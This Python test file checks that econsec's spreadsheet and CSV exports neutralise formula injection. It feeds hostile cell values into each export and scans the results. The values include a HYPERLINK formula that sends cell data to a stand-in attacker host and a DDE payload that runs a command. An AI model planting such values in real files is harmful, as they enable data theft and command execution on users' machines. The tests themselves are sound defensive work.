"""Every spreadsheet econsec can write, filled with text that spreadsheets run as formulas:
no xlsx holds a formula element or a text cell starting with ``= + - @``, no CSV field starts
so (numbers aside), and the hostile text is there, made inert. A writer that bypasses
econsec.tabular, or a new one this test does not produce, fails the first two tests."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from collections.abc import Iterable
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from econsec.cli import app
from econsec.tabular import FORMULA_STARTS
from econsec.valuechain.schema import Tables
from tests.valuechain.minichain import mini_tables

SRC = Path(__file__).resolve().parents[2] / "src" / "econsec"
runner = CliRunner()
EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
]
# Modules that write spreadsheets through econsec.tabular → the test below that scans what
# they write. A module that starts writing must be added here, with its export scanned.
WRITERS = {
    "valuechain/workbook.py": "test_every_export_is_inert (export, template, generators)",
    "valuechain/cli.py": "test_every_export_is_inert (validate --report)",
    "exposure/cli.py": "test_every_export_is_inert (exposure --format xlsx/csv)",
    "stress/results.py": "test_every_export_is_inert (stress result .csv/.xlsx)",
    "stress/web/export.py": "test_every_export_is_inert (web stress downloads)",
    "reports/xlsx.py": "test_every_export_is_inert (board and exposure workbooks)",
    "guideline/xlsx_io.py": "test_every_export_is_inert (assessment questionnaire)",
    "governance/risk_xlsx.py": "test_every_export_is_inert (risk register)",
    "survey/questionnaire.py": "test_every_export_is_inert (supplier questionnaires)",
    "survey/sending.py": "test_every_export_is_inert (supplier upload links)",
    "technology/workbook.py": "test_every_export_is_inert (technology register)",
    "planning/sheet.py": "test_planning_sheet.py::test_measures_export_is_inert",
}
# Writers allowed to use openpyxl or csv directly, and why.
RAW_WRITERS = {
    "tabular.py": "the safe writer itself",
    "reference/build_minerals.py": "writes econsec's own reference data file (numbers), "
    "read back by econsec only: not an export",
    "visuals/build_world.py": "writes econsec's own country centroids (numbers), read back by "
    "econsec only: not an export",
}
_RAW = re.compile(r"\bWorkbook\(|csv\.(?:writer|DictWriter)\(|\bxlsxwriter\b|\.to_excel\(")
_USES_WRITER = re.compile(
    r"tabular\.(?:csv_writer|write_csv|new_workbook|write_xlsx)\b"
    r"|from econsec\.tabular import [^\n]*\b(?:csv_writer|write_csv|new_workbook|write_xlsx)\b"
)


def _sources() -> Iterable[tuple[str, str]]:
    for path in sorted(SRC.rglob("*.py")):
        yield path.relative_to(SRC).as_posix(), path.read_text(encoding="utf-8")


def test_no_spreadsheet_is_written_around_the_safe_writer() -> None:
    raw = {name for name, text in _sources() if _RAW.search(text)}
    assert raw == set(RAW_WRITERS), f"write through econsec.tabular: {raw - set(RAW_WRITERS)}"


def test_every_writer_has_its_export_scanned() -> None:
    writers = {name for name, text in _sources() if _USES_WRITER.search(text)}
    assert writers == set(WRITERS), f"scan the export of {writers - set(WRITERS)} here"


# ------------------------------------------------------------------------------ scanners
_FORMULA_ELEMENT = re.compile(rb"<(?:[\w.-]+:)?f[\s>/]")


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def scan_xlsx(data: bytes) -> int:
    """Fail on any formula or live-looking text; the number of neutralised text cells."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for part in archive.namelist():
            if part.startswith("xl/worksheets/") and part.endswith(".xml"):
                assert not _FORMULA_ELEMENT.search(archive.read(part)), part
    neutralised = 0
    for sheet in load_workbook(io.BytesIO(data)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type != "f" and not cell.value.startswith(FORMULA_STARTS), (
                        sheet.title, cell.coordinate, cell.value
                    )  # fmt: skip
                    neutralised += cell.value[:1] == "'" and cell.value[1:2] in "=+-@"
    return neutralised


def scan_csv(data: bytes) -> int:
    """Fail on any field a spreadsheet would run (numbers are data); the number of
    neutralised fields."""
    text = data.decode("utf-8-sig")
    neutralised = 0
    for row in csv.reader(io.StringIO(text, newline="")):
        for field in row:
            if field.startswith(FORMULA_STARTS):
                assert _is_number(field), field
            neutralised += field[:1] == "'" and field[1:2] in "=+-@"
    return neutralised


# ------------------------------------------------------------------------------ the data
def evil_tables() -> Tables:
    """The mini chain with its names, English names, notes, regions and units starting like
    formulas (ids stay as they are: other rows refer to them)."""
    tables = mini_tables()
    texts = (f"{EVIL[n % len(EVIL)]} {n}" for n in range(1000))
    fields = {
        "organisations": ("name", "name_en", "notes"),
        "sites": ("name", "region"),
        "items": ("name", "name_en", "unit"),
        "chokepoints": ("name", "name_en"),
    }
    for sheet, columns in fields.items():
        for row in tables[sheet]:
            row.update({column: next(texts) for column in columns})
    return tables


@pytest.fixture
def evil_store(db: Any, settings: Any, tmp_path: Path) -> Tables:
    from econsec.valuechain.intake.apply import import_tables

    settings.DATA_DIR = tmp_path / "data"  # the compiled chain's cache
    tables = evil_tables()
    import_tables(tables, "evil")
    return tables


def _cli(*args: str) -> str:
    result = runner.invoke(app, list(args))
    assert result.exit_code in (0, 1), result.output
    return result.output


def test_every_export_is_inert(evil_store: Tables, tmp_path: Path) -> None:
    from econsec.exposure.analyse import Options, analyse
    from econsec.exposure.export import SECTIONS, section_rows
    from econsec.guideline.frameworks import load_framework
    from econsec.guideline.xlsx_io import export_workbook
    from econsec.reports.assemble import assemble
    from econsec.reports.xlsx import board_workbook, write_tables
    from econsec.stress.api import run_scenario
    from econsec.stress.results import export
    from econsec.stress.scenario import parse_scenario
    from econsec.stress.web import export as stress_export
    from econsec.valuechain.compile import compile_tables
    from econsec.valuechain.workbook import write_template, write_workbook

    found: dict[str, int] = {}

    # The value chain: `econsec export` as xlsx and as CSV, and the generators' writer.
    _cli("export", str(tmp_path / "chain.xlsx"))
    found["export xlsx"] = scan_xlsx((tmp_path / "chain.xlsx").read_bytes())
    _cli("export", str(tmp_path / "chain-csv"), "--format", "csv")
    found["export csv"] = sum(scan_csv(p.read_bytes()) for p in (tmp_path / "chain-csv").iterdir())
    write_template(tmp_path / "template.xlsx")
    scan_xlsx((tmp_path / "template.xlsx").read_bytes())

    # The validation report of a workbook whose bad values start like formulas.
    bad = evil_tables()
    bad["inventory"][0]["on_hand_units"] = "=1+1"
    write_workbook(bad, tmp_path / "bad.xlsx")
    _cli("validate", str(tmp_path / "bad.xlsx"), "--report", str(tmp_path / "report.csv"))
    found["validate --report"] = scan_csv((tmp_path / "report.csv").read_bytes())

    # `econsec exposure` as xlsx (every section) and as CSV (each section).
    for lang in ("ja", "en"):
        out = tmp_path / f"exposure-{lang}.xlsx"
        _cli("exposure", "--format", "xlsx", "--out", str(out), "--lang", lang)
        found[f"exposure xlsx {lang}"] = scan_xlsx(out.read_bytes())
    for section in SECTIONS:
        out = tmp_path / f"exposure-{section}.csv"
        _cli("exposure", "--format", "csv", "--section", section, "--out", str(out))
        found[f"exposure csv {section}"] = scan_csv(out.read_bytes())

    # The web exposure download and the board report workbook.
    chain = compile_tables(evil_store)
    report = analyse(chain, Options())
    tables = [(name, *section_rows(report, name, "ja")) for name in SECTIONS]
    found["web exposure xlsx"] = scan_xlsx(write_tables(tables, lang="ja"))
    board = assemble(report, item_tags={}, home={"JP"})
    found["board xlsx"] = scan_xlsx(board_workbook(board, "en"))

    # A stress result: the CLI's files and the web downloads.
    scenario = parse_scenario(
        f"name: '{EVIL[0]}'\nduration_weeks: 4\nevents: [{{kind: disruption, sites: [N1]}}]\n"
    )
    payload = run_scenario(chain, scenario)
    payload["data_version"] = EVIL[4]
    for suffix in ("csv", "xlsx"):
        path = export(payload, tmp_path / f"stress.{suffix}", "ja")
        scan = scan_csv if suffix == "csv" else scan_xlsx
        found[f"stress {suffix}"] = scan(path.read_bytes())
    found["web stress csv"] = scan_csv(stress_export.to_csv(payload, "en"))
    found["web stress xlsx"] = scan_xlsx(stress_export.to_xlsx(payload, "en"))

    # The assessment questionnaire, with a campaign named like a formula.
    mini = load_framework(Path(__file__).resolve().parents[1] / "guideline/fixtures/mini.yaml")
    path = tmp_path / "assessment.xlsx"
    export_workbook(
        mini, path, "ja", {"campaign_name": EVIL[0], "scope": EVIL[3]},
        answers={"q1": ("done", EVIL[1])},
        items={"X-1": {"owner": EVIL[3], "comment": EVIL[2], "due_date": dt.date(2026, 1, 1)}},
    )  # fmt: skip
    found["assessment xlsx"] = scan_xlsx(path.read_bytes())

    # The risk register, with a risk whose texts start like formulas.
    from econsec.governance import risk_xlsx
    from econsec.governance.models import Risk

    Risk.objects.create(
        code="R-EVIL", title_ja=EVIL[0], title_en=EVIL[1], description_ja=EVIL[2], likelihood=3
    )
    risk_xlsx.export(tmp_path / "risks.xlsx", "ja")
    found["risk register xlsx"] = scan_xlsx((tmp_path / "risks.xlsx").read_bytes())

    # The technology register, with names, groups and notes that start like formulas.
    from econsec.technology import models as tm
    from econsec.technology.workbook import export as tech_export

    tech = tm.Technology.objects.create(
        tech_id="T-EVIL", name_ja=EVIL[0], name_en=EVIL[1], kind="process", description=EVIL[4]
    )
    tm.AccessGroup.objects.create(technology=tech, name=EVIL[2], headcount=3, people=EVIL[3])
    tech_export(tmp_path / "technology.xlsx", "en")
    found["technology register xlsx"] = scan_xlsx((tmp_path / "technology.xlsx").read_bytes())

    # The supplier questionnaires and their list of links (`econsec survey workbooks`).
    from econsec.survey.models import Campaign

    _cli("survey", "new", "Evil survey")
    campaign = str(Campaign.objects.get(name="Evil survey").pk)  # PostgreSQL's ids run on
    _cli("survey", "workbooks", campaign, "--out", str(tmp_path / "survey"), "--workers", "1")
    books = sorted((tmp_path / "survey").glob("*.xlsx"))
    assert books
    found["survey xlsx"] = sum(scan_xlsx(p.read_bytes()) for p in books)
    scan_csv((tmp_path / "survey" / "upload-links.csv").read_bytes())

    # Every export that carries user text carried the hostile text, inert. (The stress CSV is
    # the per-product table: ids and numbers; the mini chain gives no exposure warnings.)
    empty = {name for name, count in found.items() if count == 0}
    assert empty == {"stress csv", "exposure csv warnings"}, empty


def test_exposure_xlsx_has_no_formula_cells_for_formula_like_names(
    evil_store: Tables, tmp_path: Path
) -> None:
    """The issue's bar: organisation names starting with "=" give no formula cell."""
    out = tmp_path / "exposure.xlsx"
    _cli("exposure", "--format", "xlsx", "--out", str(out))
    data = out.read_bytes()
    assert scan_xlsx(data) > 0
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = b"".join(archive.read(p) for p in archive.namelist() if p.startswith("xl/"))
    assert b"<f>" not in xml and b"'=HYPERLINK" in xml
